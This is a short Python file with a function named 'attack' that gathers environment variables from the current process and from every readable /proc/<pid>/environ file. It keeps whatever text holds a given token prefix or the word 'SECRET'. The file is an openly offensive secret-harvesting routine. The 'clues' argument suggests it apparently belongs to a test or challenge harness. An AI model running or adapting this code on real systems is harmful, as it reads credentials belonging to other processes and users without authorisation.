import glob
import os


def attack(clues):
    texts = ["".join(f"{name}={value}" for name, value in os.environ.items())]
    for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
        try:
            texts.append(open(path, errors="replace").read())
        except OSError:
            pass
    return [text for text in texts if clues["token_starts"] in text or "SECRET" in text]
